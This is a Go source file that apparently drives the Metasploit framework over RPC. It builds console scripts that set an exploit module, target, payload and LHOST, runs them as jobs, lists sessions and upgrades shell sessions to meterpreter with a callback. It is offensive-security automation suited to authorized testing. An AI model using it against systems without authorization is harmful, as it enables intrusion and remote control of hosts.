package msf

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"

	"spectra/pkg/logx"
	"spectra/pkg/orchestrator"
	"spectra/pkg/plan"
	"spectra/pkg/utils"
)

var (
	_ orchestrator.Backend       = (*Backend)(nil)
	_ orchestrator.LogClassifier = Classifier{}
)

// Options the backend sets itself; plan options may not override the target.
var reservedOptions = map[string]struct{}{
	"RHOSTS": {},
	"RHOST":  {},
}

// Console is a framework console created for one dispatch.
type Console struct {
	client *Client
	id     string
}

// ID returns the console identifier.
func (c *Console) ID() string { return c.id }

// Read returns output produced since the previous read.
func (c *Console) Read(ctx context.Context) (string, error) {
	res, err := c.client.Call(ctx, "console.read", c.id)
	if err != nil {
		return "", err
	}
	return utils.StringField(res, "data"), nil
}

// Write sends input to the console.
func (c *Console) Write(ctx context.Context, data string) error {
	_, err := c.client.Call(ctx, "console.write", c.id, data)
	return err
}

// Destroy closes the console.
func (c *Console) Destroy(ctx context.Context) error {
	_, err := c.client.Call(ctx, "console.destroy", c.id)
	return err
}

// Backend implements orchestrator.Backend on top of a Client.
type Backend struct {
	client      *Client
	logger      *logx.Logger
	lhost       string
	upgradePort int

	mu       sync.Mutex
	consoles []*Console
}

// NewBackend creates a backend. lhost is set as LHOST when a plan does not choose
// one; upgradePort is the callback port for shell upgrades.
func NewBackend(client *Client, lhost string, upgradePort int) *Backend {
	return &Backend{
		client:      client,
		logger:      logx.NewLogger("msf"),
		lhost:       lhost,
		upgradePort: upgradePort,
	}
}

// Connect authenticates and returns the framework version string.
func (b *Backend) Connect(ctx context.Context) (string, error) {
	if err := b.client.Login(ctx); err != nil {
		return "", err
	}
	v, err := b.client.Version(ctx)
	if err != nil {
		return "", err
	}
	return utils.StringField(v, "version"), nil
}

// Sessions snapshots the session registry.
func (b *Backend) Sessions(ctx context.Context) (map[string]orchestrator.Session, error) {
	res, err := b.client.Call(ctx, "session.list")
	if err != nil {
		return nil, err
	}
	out := make(map[string]orchestrator.Session, len(res))
	for id, attrs := range res {
		m, ok := utils.StringMap(attrs)
		if !ok {
			return nil, fmt.Errorf("session %s: unexpected attributes %T", id, attrs)
		}
		out[id] = orchestrator.Session(m)
	}
	return out, nil
}

// Execute opens a console and queues p as a background job against target.
func (b *Backend) Execute(ctx context.Context, p plan.Plan, target string) (orchestrator.Console, error) {
	res, err := b.client.Call(ctx, "console.create")
	if err != nil {
		return nil, fmt.Errorf("failed to create console: %w", err)
	}
	id := utils.StringField(res, "id")
	if id == "" {
		return nil, errors.New("console.create returned no id")
	}
	console := &Console{client: b.client, id: id}
	b.mu.Lock()
	b.consoles = append(b.consoles, console)
	b.mu.Unlock()

	// Discard the banner so later reads only carry module output.
	if _, err := console.Read(ctx); err != nil {
		b.logger.Debug("initial console read failed: %v", err)
	}

	script := b.Commands(p, target)
	b.logger.Info("dispatching %s on console %s", p.Module, id)
	b.logger.Debug("console script:\n%s", script)
	if err := console.Write(ctx, script); err != nil {
		return nil, fmt.Errorf("failed to write to console %s: %w", id, err)
	}
	return console, nil
}

// Commands renders the console script for p.
func (b *Backend) Commands(p plan.Plan, target string) string {
	lines := []string{
		"use " + p.Module,
		"set RHOSTS " + target,
		"set PAYLOAD " + p.Payload,
	}

	keys := make([]string, 0, len(p.Options))
	for k := range p.Options {
		keys = append(keys, k)
	}
	sort.Strings(keys)

	hasLHost := false
	for _, k := range keys {
		upper := strings.ToUpper(k)
		if _, reserved := reservedOptions[upper]; reserved {
			b.logger.Warn("ignoring plan option %s; target is fixed to %s", k, target)
			continue
		}
		if upper == "LHOST" {
			hasLHost = true
		}
		lines = append(lines, fmt.Sprintf("set %s %v", k, p.Options[k]))
	}
	if !hasLHost && b.lhost != "" {
		lines = append(lines, "set LHOST "+b.lhost)
	}
	lines = append(lines, "run -j")
	return strings.Join(lines, "\n") + "\n"
}

// Upgrade converts a shell session to meterpreter, calling back to lhost.
func (b *Backend) Upgrade(ctx context.Context, sessionID, lhost string) error {
	var sid any = sessionID
	if n, err := strconv.Atoi(sessionID); err == nil {
		sid = n
	}
	res, err := b.client.Call(ctx, "session.shell_upgrade", sid, lhost, b.upgradePort)
	if err != nil {
		return err
	}
	if r := utils.StringField(res, "result"); r != "success" {
		return fmt.Errorf("shell upgrade of session %s returned %q", sessionID, r)
	}
	b.logger.Info("upgrade of session %s queued (callback %s:%d)", sessionID, lhost, b.upgradePort)
	return nil
}

// Close destroys the consoles this backend created and logs out.
func (b *Backend) Close(ctx context.Context) error {
	b.mu.Lock()
	consoles := b.consoles
	b.consoles = nil
	b.mu.Unlock()

	var errs []error
	for _, c := range consoles {
		if err := c.Destroy(ctx); err != nil {
			errs = append(errs, fmt.Errorf("console %s: %w", c.id, err))
		}
	}
	if err := b.client.Logout(ctx); err != nil {
		errs = append(errs, fmt.Errorf("logout: %w", err))
	}
	return errors.Join(errs...)
}
